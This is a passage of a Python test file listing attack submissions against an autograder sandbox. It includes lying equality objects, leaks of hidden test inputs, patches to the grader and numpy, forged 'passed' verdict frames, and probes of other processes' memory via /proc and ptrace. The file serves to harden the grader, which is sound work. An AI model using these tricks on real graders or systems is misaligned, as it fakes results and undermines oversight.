"""Attacks on the grader: each one is a submission, and a sentence that says what it tries.

`differences` is the exercise of the mini course, and its check has a hidden part with a secret input. An attack that
needs another kind of check brings its own, of an exercise `f`.
"""

# ruff: noqa: E501
from __future__ import annotations

from dataclasses import dataclass, field
from typing import Any


@dataclass(frozen=True)
class Attack:
    """One submission. `mark` says whether its check may pass: never, always (the answer is right), or either."""

    name: str
    tries: str
    source: str
    after: str = ""  # a cell below the check
    check: str = ""  # of `f`, in place of the mini course's check of `differences`
    mark: str = "never"
    limits: dict[str, Any] = field(default_factory=dict)


RIGHT = "def differences(x):\n    return x[:, 1:] - x[:, :-1]\n"
WRONG = "def differences(x):\n    return x[:, :-1] - x[:, 1:]\n"
# The visible part of the check is satisfied, so that the hidden part is reached.
VISIBLE = "    if x.shape == (1, 3) and x[0, 0] == 1:\n        return torch.tensor([[3.0, 2.0]])\n"
SHORT = {"cell_seconds": 1.0, "check_seconds": 1.0}
FRAME = """
import json, os, socket, struct, time
def frame(message, body=b""):
    head = message if isinstance(message, bytes) else json.dumps(message).encode()
    return struct.pack("<II", len(head), len(body)) + head + body
"""
TRY = """
found = []
def attempt(function, *args):
    try:
        found.append(str(function(*args)))
    except BaseException as error:
        found.append(type(error).__name__)
"""


def hidden(body: str) -> str:
    """A `differences` that satisfies the visible part and does `body` in the hidden one."""
    return f"def differences(x):\n{VISIBLE}" + "".join(f"    {line}\n" for line in body.strip().splitlines())


def spoiling(body: str) -> str:
    """A `differences` that is right for a single row, and does `body` to the others."""
    return "def differences(x):\n    if len(x) == 1:\n        return x[:, 1:] - x[:, :-1]\n" + "".join(
        f"    {line}\n" for line in body.strip().splitlines()
    )


EQUAL = "__eq__ = lambda self, other: True\n    __ne__ = lambda self, other: False\n    __hash__ = None\n"


def equal_to_all(base: str, value: str, expected: str) -> Attack:
    source = f"class Equal({base}):\n    {EQUAL}def f():\n    return Equal({value})"
    check = f"expect(f()).equal({expected})"
    return Attack(f"a {base} that equals everything", f"Return a subclass of {base} with a lying __eq__.", source,
                  check=check)  # fmt: skip


VALUES = [
    *(
        equal_to_all(base, value, expected)
        for base, value, expected in [
            ("int", "1", "42"), ("float", "1.0", "42.5"), ("str", "'a'", "'word'"), ("bytes", "b'a'", "b'word'"),
            ("tuple", "()", "(1, 2)"), ("list", "[]", "[1, 2]"), ("dict", "{}", "{'a': 1}"), ("set", "()", "{1, 2}"),
            ("object", "", "42"),
        ]
    ),
    Attack("an equal object in a bare assert", "Return an object that equals everything, where the check uses ==.",
           f"class Equal:\n    {EQUAL}def f():\n    return Equal()", check="assert f() == 42"),
    Attack("an equal object inside a container", "Hide the lying object inside a plain list, dictionary and tuple.",
           f"class Equal(int):\n    {EQUAL}def f():\n    return [(Equal(1), {{'a': Equal(2)}})]",
           check="expect(f()).equal([(42, {'a': 43})])"),
    Attack("arithmetic that gives zero", "Return a number whose difference to anything is small.",
           "class Near(float):\n    __sub__ = __rsub__ = __abs__ = lambda *_: Near(0)\n"
           "    __lt__ = __le__ = lambda *_: True\ndef f():\n    return Near(1)",
           check="assert abs(f() - 42.5) < 1e-6"),
    *(
        Attack(f"a difference that answers for itself: {check}", "Return an object whose difference to anything says 0.",
               "class Near:\n    __sub__ = __rsub__ = __pow__ = __abs__ = lambda self, *_: self\n"
               "    __bool__ = lambda self: False\n    __float__ = lambda self: 0.0\n"
               "    __getattr__ = lambda self, name: lambda *_: torch.zeros(())\ndef f():\n    return Near()", check=check)
        for check in ("assert (f() - torch.ones(3)).abs().max() < 1e-6", "assert (torch.ones(3) - f()).norm() < 1e-6",
                      "assert ((f() - 3) ** 2).mean() < 0.1", "assert not (f() - 42)",
                      "expect((f() - torch.ones(3)).abs().max()).close(0.0)", "assert abs(f() - 42.5).item() < 1e-6")
    ),
    *(
        Attack(f"a weight that is too small: {damage}", "torch's LSTM writes beyond it: break the judge's memory.",
               f"def f(layer):\n    {damage}",
               check="layer = torch.nn.LSTM(64, 64)\nf(layer)\nlayer(torch.randn(5, 2, 64))[0].sum().backward()")
        for damage in ("layer.weight_ih_l0.data = torch.ones(1)",
                       "layer.weight_hh_l0 = torch.nn.Parameter(torch.ones(1))")
    ),
    Attack("order that holds for everything", "Return an object that is smaller and larger than any number.",
           "class All(float):\n    __lt__ = __le__ = __gt__ = __ge__ = lambda *_: True\ndef f():\n    return All(50)",
           check="assert f() <= 0.1"),
    Attack("a container that has everything", "Return a list whose __contains__ always says yes.",
           "class All(list):\n    __contains__ = lambda *_: True\ndef f():\n    return All()", check="assert 42 in f()"),
    Attack("a tensor subclass", "Lie about every comparison through __torch_function__.",
           "class Lying(torch.Tensor):\n    @classmethod\n    def __torch_function__(cls, func, types, args=(), kw=None):\n"
           "        return torch.tensor(True)\n" + hidden("return torch.zeros(1, 2).as_subclass(Lying)")),
    Attack("a parameter subclass", "Return a subclass of Parameter whose elements lie.",
           "class Lying(torch.nn.Parameter):\n    def __eq__(self, other):\n        return torch.ones(3, 6).bool()\n"
           + hidden("return Lying(torch.zeros(3, 6))")),
    Attack("an object that looks like a tensor", "Lie with shape, dtype, __len__, __getitem__ and detach.",
           "class Looks:\n    shape, dtype = (3, 6), torch.float32\n    __len__ = lambda self: 3\n"
           "    __getitem__ = lambda self, i: self\n    __getattr__ = lambda self, name: lambda *a, **k: self\n"
           f"    {EQUAL}" + hidden("return Looks()")),
    Attack("a lying class attribute", "Return an object whose __class__ says Tensor.",
           "class Lying:\n    __class__ = property(lambda self: torch.Tensor)\n    shape = (3, 6)\n"
           + hidden("return Lying()")),
    Attack("lying gradients", "Return objects whose .grad is never zero.",
           "class P:\n    class grad:\n        any = staticmethod(lambda: True)\ndef f():\n    return [P(), P()]",
           check="expect(f()).gradient()"),
    Attack("a lying number", "Return an object whose __float__ is what the check wants.",
           "class N:\n    __float__ = lambda self: 1.0\n    __ge__ = __gt__ = lambda *_: True\ndef f():\n    return N()",
           check="expect(f()).at_least(0.9)"),
    Attack("NaN everywhere", "Return NaN, which compares in odd ways.",
           hidden("return torch.full((x.shape[0], x.shape[1] - 1), float('nan'))")),
    Attack("infinities everywhere", "Return infinity, which is within any relative tolerance of itself.",
           hidden("return torch.full((x.shape[0], x.shape[1] - 1), float('inf'))")),
    Attack("NaN for a number", "Return NaN where one number is expected.", "def f():\n    return float('nan')",
           check="expect(f()).close(3.0)"),
    Attack("a masked array", "Mask every element, so that nothing is compared.",
           "import numpy as np\ndef f():\n    return np.ma.masked_all(3)",
           check="import numpy as np\nassert np.allclose(f(), [1.0, 2.0, 3.0])"),
    Attack("a masked array in numpy's own test", "Mask every element, where the check uses numpy.testing.",
           "import numpy as np\ndef f():\n    return np.ma.masked_all(3)",
           check="import numpy as np\nnp.testing.assert_allclose(f(), [1.0, 2.0, 3.0])"),
    Attack("an array of objects", "Return a numpy array whose elements equal everything.",
           f"import numpy as np\nclass Equal:\n    {EQUAL}def f():\n    return np.array([Equal()] * 3, dtype=object)",
           check="import numpy as np\nassert (np.asarray(f()) == np.arange(3)).all()"),
    Attack("an empty tensor", "Return no elements: all of none are right.", hidden("return x[:0, :0]")),
    Attack("a tensor that broadcasts", "Return one element that stands for all.", hidden("return x.mean()")),
    Attack("tensors of other kinds", "Return a sparse, a meta and a complex tensor in turn.",
           "kinds = iter([torch.zeros(3, 6).to_sparse(), torch.empty(3, 6, device='meta'), torch.zeros(3, 6) + 0j])\n"
           + hidden("return next(kinds)")),
    Attack("the function itself", "Return the proxied function as its own value.", hidden("return differences")),
    Attack("torch itself", "Return a module, a class, a generator.", hidden("return torch")),
    Attack("a named tuple with telling names", "Return a named tuple whose fields are called like a tensor's.",
           "import collections\n" + hidden("return collections.namedtuple('Tensor', 'shape dtype')((3, 6), torch.float)")),
    Attack("a list that contains itself", "Send the judge's comparison round in a circle.",
           "def f():\n    a = [1]\n    a.append(a)\n    return a", check="expect(f()).equal([1, [1, [1, [1]]]])"),
    Attack("a deep value", "Nest the result deeper than a stack.",
           "def f():\n    a = []\n    for _ in range(100_000): a = [a]\n    return a", check="expect(f()).equal([])"),
    Attack("a value of enormous size", "Return more than fits.", hidden("return torch.zeros(200, 1 << 20)"),
           limits={"value_mb": 16}),
    Attack("a million elements", "Return millions of small objects.",
           "def f():\n    return [[i] for i in range(1_100_000)]", check="expect(f()).equal([])",
           limits=SHORT),
    Attack("an enormous number", "Return an integer of a million digits.", "def f():\n    return 1 << 4_000_000",
           check="expect(f()).equal(1)"),
    Attack("an endless iterator", "Yield for ever.", "def f():\n    while True: yield 1",
           check="expect(list(f())).equal([1])", limits=SHORT),
    Attack("a generator that sleeps", "Yield slowly, so that the check never ends.",
           "import time\ndef f():\n    while True:\n        time.sleep(0.4)\n        yield 1",
           check="for v in f(): expect(v).equal(1)", limits=SHORT),
    Attack("a length that is enormous", "Say a length of 2 ** 62.",
           "class Long(list):\n    __len__ = lambda self: 1 << 62\ndef f():\n    return Long()",
           check="a = f()\nexpect([0] * len(a)).equal([])"),
]  # fmt: skip

ARGUMENTS = [
    Attack("input set to zero", "Make the check compare with a wrong input: change it in place.",
           spoiling("x.zero_()\nreturn torch.zeros(x.shape[0], x.shape[1] - 1)")),
    Attack("input changed through numpy", "Change the input in place, past torch's version counter.",
           spoiling("x.numpy()[:] = 0\nreturn torch.zeros(x.shape[0], x.shape[1] - 1)")),
    Attack("input given other data", "Change the input by setting .data.",
           spoiling("x.data = torch.zeros_like(x)\nreturn torch.zeros(x.shape[0], x.shape[1] - 1)")),
    Attack("input given NaN", "Make what the check expects NaN.",
           spoiling("x.fill_(float('nan'))\nreturn x[:, 1:].clone()")),
    Attack("input changed by a thread", "Go on changing the input after the function has returned.",
           "import threading\nkept = []\ndef go():\n    while True:\n        for k in list(kept): k.zero_()\n"
           "threading.Thread(target=go, daemon=True).start()\n"
           + spoiling("kept.append(x)\nreturn torch.zeros(x.shape[0], x.shape[1] - 1)")),
    Attack("random numbers that are all zero", "Set torch's generator to a state that draws only zeros.",
           "def f(x):\n    s = torch.get_rng_state().clone()\n    s[24:24 + 624 * 8] = 0\n    torch.set_rng_state(s)\n"
           "    return x * 0 if x.shape[0] == 1 else torch.zeros_like(x)",
           check="expect(f(torch.zeros(1, 40))).equal(torch.zeros(1, 40))\nx = torch.randn(2, 40)\nwant = 2 * x\n"
           "expect(f(x)).close(want)"),
    Attack("Python's random numbers that are all zero", "Set random's state so that the check draws only zeros.",
           "import random\ndef f(x):\n    random.setstate((3, (0,) * 624 + (1,), None))\n    return 0",
           check="import random\nf(1)\nx = random.random()\nwant = 2 * x\nexpect(f(x)).close(want)"),
    Attack("numpy's random numbers that are all zero", "Set numpy's state so that the check draws only zeros.",
           "import numpy as np\ndef f(x):\n    np.random.set_state(('MT19937', np.zeros(624, 'u4'), 1, 0, 0.0))\n    return 0",
           check="import numpy as np\nf(1)\nx = float(np.random.rand())\nwant = 2 * x\nexpect(f(x)).close(want)"),
    Attack("the random state is broken", "Send a state that reads beyond its memory.",
           "def differences(x):\n    s = torch.get_rng_state().clone()\n    s[8:24] = 255\n"
           "    torch.get_rng_state = lambda *_: s\n    torch.random.get_rng_state = torch.get_rng_state\n    return x"),
    Attack("gradients switched off", "Switch gradients and anomaly mode in the hope that the judge follows.",
           "torch.set_grad_enabled(False)\ntorch.set_default_dtype(torch.float16)\n" + WRONG),
]  # fmt: skip

GUESSING = [
    Attack("right for the visible call only", "Know the visible input by heart.", hidden("return x[:, 1:] * 0")),
    Attack("right by call number", "Behave for the first call and sleep afterwards.",
           "calls = []\ndef differences(x):\n    calls.append(1)\n"
           "    return x[:, 1:] - x[:, :-1] if len(calls) == 1 else x[:, 1:]"),
    Attack("right by the caller's frames", "Walk the frames of the caller and take what it expects.",
           "import sys\ndef differences(x):\n    frame, seen = sys._getframe(), []\n    while frame:\n"
           "        seen += [v for v in frame.f_locals.values() if type(v) is torch.Tensor]\n        frame = frame.f_back\n"
           "    print(seen)\n    return seen[-1]", after="print(differences(torch.zeros(1, 2)))"),
    Attack("inputs kept for a later cell", "Keep the inputs of the hidden test and print them below the check.",
           "kept = []\n" + hidden("kept.append(x)\nreturn x"), after="print(kept)\nkept[0].tolist()"),
    Attack("inputs kept in a file", "Write the inputs to a file and show it below the check.",
           hidden("open('kept', 'a').write(repr(x.tolist()))\nreturn x"),
           after="!cat kept\nprint(open('kept').read())"),
    Attack("inputs kept by a process", "Hand the inputs to a second process, which prints them later.",
           "import os\nr, w = os.pipe()\n" + hidden("os.write(w, repr(x.tolist()).encode())\nreturn x"),
           after="os.set_blocking(r, False)\nprint(os.read(r, 9999))"),
    Attack("inputs printed", "Print, display and warn from within the checked function.",
           "import os, sys, warnings, logging\nfrom IPython.display import display, HTML\n"
           + hidden("for out in (print, display, warnings.warn, logging.error, lambda t: os.write(1, t.encode()),\n"
                    "            lambda t: os.write(2, t.encode()), lambda t: sys.__stderr__.write(t)):\n"
                    "    out(repr(x.tolist()))\nreturn x"), after="1"),
    Attack("inputs in a figure", "Draw the inputs and show the figure below the check.",
           "from matplotlib import pyplot as plt\n" + hidden("plt.title(repr(x.tolist()))\nreturn x"),
           after="print(plt.gca().get_title())\nplt.show()"),
    Attack("inputs as a string", "Return the inputs as text, so that the message shows them.",
           hidden("return repr(x.tolist())")),
    Attack("inputs in a container", "Return the inputs in a list, so that the message shows them.",
           hidden("return [x.tolist()]")),
    Attack("inputs in an error", "Raise an error whose text is the input.", hidden("raise ValueError(repr(x.tolist()))")),
    Attack("inputs in the name of an error", "Raise an error whose type is called like the input.",
           hidden("raise type(repr(x.tolist()), (ValueError,), {})()")),
    Attack("inputs in an error of the grader's own", "Raise NotPlain, whose text the judge shows.",
           "class NotPlain(Exception): pass\n" + hidden("raise NotPlain(repr(x.tolist()))")),
    Attack("inputs in an unwritten exercise", "Raise NotImplementedError with the input as its text.",
           hidden("raise NotImplementedError(repr(x.tolist()))")),
    Attack("inputs in the place of an error", "Name a cell after the input, and fail there.",
           hidden("get_ipython().compile.cells['<cell 99>'] = repr(x.tolist())\n"
                  "exec(compile('raise ValueError', '<cell 99>', 'exec'))")),
    Attack("inputs in the line of an error", "Fail in a line whose number is the input.",
           hidden("n = int(x.abs().max())\n"
                  "get_ipython().compile.cells['<cell 99>'] = 'differences'\nimport ast\n"
                  "tree = ast.parse('raise ValueError')\n"
                  "[setattr(node, 'lineno', n) or setattr(node, 'end_lineno', n) for node in ast.walk(tree.body[0])]\n"
                  "exec(compile(tree, '<cell 99>', 'exec'))")),
    Attack("inputs in the name of a type", "Return an object whose type is called like the input.",
           hidden("return type(repr(x.tolist()), (), {})()")),
    Attack("inputs in the name of a type in a bare check", "The same where the check uses the value itself.",
           "def f(x):\n    return type(repr(x), (), {})()",
           check="### BEGIN HIDDEN TESTS\nexpect(torch.exp(f(8675309))).shape(1)\n### END HIDDEN TESTS"),
    Attack("inputs in a shape", "Return a tensor without elements whose sizes are the input.",
           hidden("return torch.empty(0, int(x.abs().max()))")),
    Attack("inputs in a changed argument", "Change the check's own list, so that its message shows what it held.",
           "def f(words):\n    words[:] = [repr(words)]\n    return 1",
           check="### BEGIN HIDDEN TESTS\nwords = ['canary_7341']\nf(words)\nexpect(words).equal(['b'])\n"
           "### END HIDDEN TESTS"),
    Attack("what memory knows", "Look for the check's source in all objects, modules, files and line caches.",
           TRY + "import gc, linecache, sys\ndef differences(x):\n"
           "    for o in gc.get_objects():\n        if type(o) in (str, dict, list) and not found:\n"
           "            t = repr(o)[:200_000] if type(o) is str else ''\n"
           "            if 'HIDDEN' + ' TESTS' in t: print(t)\n    print(linecache.cache.keys(), sys.modules.keys())\n"
           "    return x", after="differences(1)\nprint([v for k, v in linecache.cache.items() if 'check' in k])",
           limits={"check_seconds": 5.0}),
    Attack("what the shell knows", "Read the check from In, Out, the history and the user's names.",
           "def differences(x):\n    return x\n",
           after="print(In, Out, get_ipython().history_manager.input_hist_raw, dict(globals()).keys())\n%history\n%whos"),
    Attack("the process above", "Read, trace, and write the memory of processes that are not one's own.",
           TRY + "import ctypes, os\nlibc = ctypes.CDLL(None, use_errno=True)\n"
           "for pid in ['1', str(os.getppid()), 'self']:\n"
           "    for name in ['environ', 'cmdline', 'maps', 'mem', 'stack', 'cwd', 'root', 'fd', 'task', 'syscall']:\n"
           "        attempt(lambda: open(f'/proc/{pid}/{name}', 'rb').read(99))\n"
           "        attempt(os.listdir, f'/proc/{pid}/{name}')\n"
           "for request in (0, 16, 0x4206):\n    attempt(libc.ptrace, request, 1, 0, 0)\n"
           "buffer = ctypes.create_string_buffer(64)\n"
           "class Vec(ctypes.Structure):\n    _fields_ = [('base', ctypes.c_void_p), ('len', ctypes.c_size_t)]\n"
           "here, there = Vec(ctypes.addressof(buffer), 64), Vec(id(libc), 64)\n"
           "attempt(libc.process_vm_readv, 1, ctypes.byref(here), 1, ctypes.byref(there), 1, 0)\n"
           "attempt(libc.process_vm_writev, 1, ctypes.byref(here), 1, ctypes.byref(there), 1, 0)\n"
           "attempt(lambda: os.pidfd_open(1))\nattempt(libc.syscall, 438, 3, 0, 0)\nprint(found)\n" + WRONG),
]  # fmt: skip


def raising(name: str, tries: str, what: str, setup: str = "") -> Attack:
    return Attack(name, tries, setup + hidden(f"raise {what}"))


ERRORS = [
    raising("an expectation's error", "Raise ExpectationError, as if the check had spoken.",
            "ExpectationError('passed')", "from autograder.lab.failures import ExpectationError\n"),
    raising("a failed assert", "Raise AssertionError.", "AssertionError('passed')"),
    raising("SystemExit", "End the judge as if all were done.", "SystemExit(0)"),
    raising("KeyboardInterrupt", "Interrupt the judge as a teacher would.", "KeyboardInterrupt"),
    raising("GeneratorExit", "Close the judge's generators.", "GeneratorExit"),
    raising("a BaseException of one's own", "Raise past every except Exception.", "Mine()",
            "class Mine(BaseException): pass\n"),
    raising("an error called TimeLimit", "Raise an error called like the grader's own.", "TimeLimit('x')",
            "class TimeLimit(BaseException): pass\n"),
    raising("errors called Stop and Closed", "Raise an error called like the grader's own.", "Stop('x')",
            "class Closed(Exception): pass\nclass Stop(Closed): pass\n"),
    raising("the grader's real time limit", "Raise the class that the grader itself raises.", "TimeLimit('x')",
            "from autograder.run.sandbox.child import TimeLimit\n"),
    raising("an error whose text raises", "Raise an error whose __str__ and __repr__ raise.", "Bad()",
            "class Bad(Exception):\n    def __str__(self): raise SystemExit\n    __repr__ = __str__\n"),
    raising("an error whose text is enormous", "Raise an error of 200 MB.", "ValueError('x' * 200_000_000)"),
    raising("an error whose class lies", "Raise an error with a lying __class__, __name__ and mro.", "Bad()",
            "class Meta(type):\n    __name__ = property(lambda self: 1 / 0)\n"
            "class Bad(Exception, metaclass=Meta):\n    __class__ = property(lambda self: int)\n"),
    raising("an error with odd arguments", "Raise an error whose args are no values.", "ValueError(torch, [], {}, x)"),
    raising("a group of errors", "Raise an ExceptionGroup with thousands of errors.",
            "ExceptionGroup('x', [ValueError(i) for i in range(9999)])"),
    raising("an error without end", "Raise an error that is its own cause.", "error",
            "error = ValueError('x')\nother = KeyError('y')\nerror.__cause__, other.__cause__ = other, error\n"),
    Attack("endless recursion", "Exhaust the stack.", hidden("return differences(x)")),
    Attack("StopIteration in map", "End the check's own iteration early, so that all() holds for nothing.",
           "def f(x):\n    raise StopIteration", check="assert all(map(lambda x: torch.equal(f(x), x), torch.eye(3)))"),
    Attack("StopIteration in a generator", "The same, where the check has a generator.",
           "def f(x):\n    raise StopIteration", check="assert all(torch.equal(f(x), x) for x in torch.eye(3))"),
    Attack("AttributeError for a default", "Make hasattr and getattr say that there is nothing to check.",
           "class C:\n    def __getattr__(self, name): raise AttributeError(name)\ndef f():\n    return C()",
           check="expect(getattr(f(), 'value', None)).equal(42)"),
    Attack("an error in the destructor", "Raise and print from __del__ at odd moments.",
           "class D:\n    def __del__(self):\n        print('x'); raise SystemExit\n" + hidden("return [D(), D()]")),
    Attack("an error inside the cell", "Raise SystemExit at the end of a right cell.", RIGHT + "raise SystemExit(0)",
           mark="always"),
    Attack("an error whose text is no Unicode", "Raise an error that cannot be written to a file.",
           "def differences(x):\n    raise ValueError('\\ud800')"),
]  # fmt: skip


def patch(name: str, tries: str, source: str) -> Attack:
    return Attack(name, tries, WRONG + source)


PATCHES = [
    patch("torch patched", "Replace what a check could compare with.",
          "true = lambda *a, **k: True\ntorch.equal = torch.allclose = torch.testing.assert_close = true\n"
          "torch.diff = lambda x, dim=1: differences(x)\ntorch.Tensor.__eq__ = torch.Tensor.all = true\n"
          "torch.isfinite = torch.isclose = true"),
    patch("numpy patched", "Replace numpy's comparisons.",
          "import numpy as np\ntrue = lambda *a, **k: True\nnp.allclose = np.array_equal = np.isclose = true\n"
          "np.testing.assert_allclose = np.testing.assert_equal = true"),
    patch("builtins patched", "Replace all, abs, isinstance, len and the AssertionError itself.",
          "import builtins\ntrue = lambda *a, **k: True\n"
          "for name in ('all', 'any', 'abs', 'print', 'compile', 'exec', 'callable'): setattr(builtins, name, true)\n"
          "builtins.AssertionError = builtins.NotImplementedError = type('Quiet', (Exception,), {})"),
    patch("expect patched", "Make every expectation hold, in the student's process.",
          "import sys, autograder.lab\nE = sys.modules['autograder.lab.expectations'].Expectation\n"
          "E._require = E._compare = E._fail = lambda self, *a, **k: self\nexpect = autograder.lab.expect = E"),
    patch("the encoder patched", "Send the right value whatever the function returned.",
          "from autograder.run.wire import encode, objects\n"
          "objects.PeerEncoder.value = encode.Encoder.value = lambda self, x, depth=0: True"),
    patch("the reply patched", "Add a pass to every reply.",
          "from autograder.run.wire import frames, peer\nold = frames.send_frame\n"
          "def send(sock, message, parts, deadline):\n"
          "    message.update(passed=True, check={'id': 'differences-values', 'passed': True}, end=True, error=None)\n"
          "    old(sock, message, parts, deadline)\nframes.send_frame = peer.send_frame = send"),
    patch("the peer patched", "Answer every request with nothing wrong.",
          "from autograder.run.wire import peer\npeer.Peer._answer = lambda self, message, body: ({'value': None}, [])"),
    patch("the policy patched", "Allow everything, in the student's process.",
          "from autograder.run.judge import judge, policy\nfrom autograder.run.wire import proxy\npolicy.check = policy._readable = lambda *a: True\n"
          "proxy.Proxy.__eq__ = lambda *a: True\njudge.Run.check = None"),
    patch("the shell patched", "Replace the shell's run, the displays and the outputs.",
          "from autograder.run.sandbox import shell\nshell.Shell.run = lambda self, *a: ([], None, 1)\n"
          "shell.OUTPUTS.finish = lambda: [{'output_type': 'execute_result', 'data': {'text/plain': '2'}}]"),
    patch("modules replaced", "Replace modules of the grader in sys.modules.",
          "import sys, types\nfor name in list(sys.modules):\n"
          "    if name.startswith('autograder'): sys.modules[name] = types.ModuleType(name)"),
    patch("the displayhook", "Forge a score by the display hook, as nbgrader believes it.",
          "import sys\nsys.displayhook(2)\nsys.displayhook = lambda value: None\n2"),
    patch("an input transformer", "Rewrite every later cell to nothing.",
          "ip = get_ipython()\nip.input_transformers_cleanup.append(lambda lines: ['pass\\n'])\n"
          "ip.input_transformer_manager.line_transforms.append(lambda lines: [])"),
    patch("a transformer of the tree", "Remove every assert and call from later cells.",
          "import ast\nclass Empty(ast.NodeTransformer):\n    def visit_Module(self, node):\n"
          "        node.body = []\n        return node\nget_ipython().ast_transformers.append(Empty())"),
    patch("hooks of the shell", "Register hooks that run before and after each cell.",
          "ip = get_ipython()\nfor event in ('pre_run_cell', 'post_run_cell', 'pre_execute', 'post_execute'):\n"
          "    ip.events.register(event, lambda *a: print(a))\nip.set_custom_exc((BaseException,), lambda *a, **k: None)\n"
          "ip.run_cell = lambda *a, **k: None"),
    patch("a trace", "Watch every line and return early.",
          "import sys, threading\nsys.settrace(lambda frame, event, arg: None)\nsys.setprofile(lambda *a: None)\n"
          "threading.settrace(lambda *a: None)"),
    patch("hooks of the end", "Change the result at exit and in audit hooks.",
          "import atexit, sys\natexit.register(print, 'x')\nsys.addaudithook(lambda *a: None)\n"
          "sys.excepthook = sys.unraisablehook = lambda *a: None"),
    patch("pyplot hooked", "Replace the backend and what pyplot shows.",
          "import matplotlib\nfrom matplotlib import pyplot as plt\nplt.show = plt.close = lambda *a, **k: None\n"
          "matplotlib.rcParams.update({'figure.max_open_warning': 0})\nfor _ in range(30): plt.figure()"),
    patch("a patch of the given cell's names", "Change names that the check uses.",
          "expect = lambda *a, **k: expect\nexpect.equal = expect.close = expect.shape = expect\nplots = torch = None\n"),
]  # fmt: skip


def sent(name: str, tries: str, when_called: str, **more: Any) -> Attack:
    return Attack(name, tries, FRAME + hidden(when_called + "\nreturn x"), **more)


PASSED = "{'check': {'id': 'differences-values', 'passed': True, 'kind': 'passed'}}"
FRAMES = [
    Attack("a verdict on every descriptor", "Write a pass, in every format there is, to descriptors 0 to 1023.",
           FRAME + hidden(f"line = (json.dumps({PASSED}) + chr(10) + json.dumps({{'end': True}}) + chr(10)).encode()\n"
                          f"for data in (line, frame({PASSED}), frame({{'value': True, 'passed': True}}),\n"
                          "             struct.pack('<I', len(line)) + line):\n"
                          "    for fd in range(1024):\n        try: os.write(fd, data)\n        except OSError: pass\n"
                          "return x")),
    Attack("a verdict while the cell runs", "Answer for the cell, and then for all requests that follow.",
           FRAME + WRONG + "for _ in range(50): os.write(9, frame({'value': None, 'outputs': [], 'passed': True}))"),
    sent("right values guessed", "Answer the next requests in advance, with likely values.",
         "for value in (True, None, 1, ['t', []], ['l', []]): os.write(9, frame({'value': value}))"),
    sent("garbage", "Write random bytes.", "os.write(9, os.urandom(100_000))"),
    sent("a frame without end", "Say a length of 4 GB.", "os.write(9, struct.pack('<II', 2 ** 32 - 1, 2 ** 32 - 1))"),
    sent("half a frame", "Send the beginning, and wait.", "os.write(9, frame({'value': 1})[:9])\ntime.sleep(60)",
         limits=SHORT),
    sent("one byte at a time", "Send a valid frame very slowly.",
         "for b in frame({'value': 1, 'x': 'x' * 500}):\n    os.write(9, bytes([b])); time.sleep(0.1)", limits=SHORT),
    sent("JSON without bottom", "Send a header that is nested 100,000 times.",
         "os.write(9, frame(b'[' * 100_000 + b']' * 100_000))"),
    sent("a frame that is no message", "Send a list, a number, a string.",
         "for m in ([], 1, 'x', None): os.write(9, frame(m))"),
    sent("numbers that are none", "Send infinities, and numbers of 4,000 digits.",
         "os.write(9, frame(b'{\"value\": 1e999, \"seconds\": ' + b'9' * 4000 + b', \"graphs\": [[NaN]]}'))"),
    sent("requests without end", "Ask the judge, instead of answering.",
         "for _ in range(5000): os.write(9, frame({'do': 'call', 'args': [], 'grad': True}))", limits=SHORT),
    sent("objects that were never passed", "Ask for handles, names and graphs that are not one's own.",
         "for node in (['Y', 1], ['N', 'expect'], ['Q', 'os', 'system'], ['k', 0], ['m', 0], ['H', -1, 'x'],\n"
         "             ['G', 0], ['bt', 'eval'], ['nt', 'x', ['__class__'], [1]], ['x', 'SystemExit', 'x']):\n"
         "    os.write(9, frame({'do': 'getattr', 'args': [node, '__globals__'], 'grad': True}))\n"
         "    os.write(9, frame({'value': node}))"),
    sent("arguments changed that were not", "Report changes of objects by number.",
         "os.write(9, frame({'value': None, 'changed': [[i, ['list', ['l', []]]] for i in range(-9, 9)],\n"
         "    'sync': [[i, None, False, False] for i in range(99)], 'dead': [0, 1, [2]], 'freed': [[0, -99]]}))"),
    sent("an error that is none", "Report an error made of wrong parts.",
         "os.write(9, frame({'error': {'type': [1], 'kinds': ['SystemExit', 'type', 7], 'message': {}, 'frames': 3}}))"),
    sent("an error's place made of the input", "Report an error whose frames hold the input.",
         "t = repr(x.tolist())\nos.write(9, frame({'error': {'type': 'ValueError', 'kinds': ['ValueError'], 'message': t,\n"
         "    'args': [t], 'frames': [[True, t[-90:], 1, t, t]]}}))"),
    sent("not plain, says the frame", "Report that the value cannot cross, with the input as the reason.",
         "os.write(9, frame({'error': {'type': 'NotPlain', 'kinds': [], 'message': repr(x.tolist())}}))"),
    sent("missing, says the frame", "Report that the name is missing, with the input as its text.",
         "os.write(9, frame({'error': {'type': repr(x), 'kinds': ['NameError'], 'message': repr(x), 'missing': True}}))"),
    sent("outputs that are none", "Answer a cell with outputs of wrong types.",
         "os.write(9, frame({'outputs': [{'output_type': 'error', 'traceback': 5}], 'seconds': 'x', 'number': []}))"),
    Attack("outputs nested without bottom", "Display JSON that is nested 900 times.",
           RIGHT + "from IPython.display import display\nv = []\nfor _ in range(900): v = [v]\n"
           "display({'application/json': v}, raw=True)", mark="either"),
    Attack("a time that is no time", "Report a cell's time as a number of 400 digits.",
           FRAME + RIGHT + "os.write(9, frame({'outputs': [], 'seconds': 10 ** 400}))", mark="either"),
    sent("descriptors passed", "Pass open files to the judge over its socket.",
         "s = socket.socket(fileno=os.dup(9))\nfor _ in range(50): socket.send_fds(s, [b'x'], [0, 1, 2])"),
    sent("the socket closed", "Hang up in the middle of the check.", "os.close(9)"),
    sent("every descriptor closed", "Close all there is.", "os.closerange(0, 4096)"),
    sent("the socket shut down", "Shut the socket down, and stay.",
         "socket.socket(fileno=9).shutdown(socket.SHUT_WR)\ntime.sleep(60)", limits=SHORT),
]  # fmt: skip

# What a check passes to the student's function can be called, and nothing more.
PASSES = "secret = 'canary_7341'\ndef step(n):\n    return n + (secret == 'x')\n"
REACHES = [
    "__globals__",
    "__code__",
    "__closure__",
    "__class__",
    "__dict__",
    "__reduce__",
    "__reduce_ex__",
    "__builtins__",
    "__init__",
    "__self__",
    "__func__",
    "__module__",
    "__defaults__",
    "__wrapped__",
    "__getattribute__",
    "__subclasses__",
    "__mro__",
    "func_globals",
    "gi_frame",
    "f_globals",
    "f_back",
    "tb_frame",
    "cr_frame",
    "f_locals",
]
CALLBACKS = [
    Attack("a walk from a function of the check", "Reach the check's names from a function that it passed.",
           TRY + f"names = {REACHES}\ndef f(step):\n    for name in names:\n        attempt(getattr, step, name)\n"
           "        attempt(lambda: getattr(step, name)['secret'])\n    attempt(vars, step)\n    attempt(dir, step)\n"
           "    attempt(repr, step)\n    attempt(lambda: step.__globals__['secret'])\n"
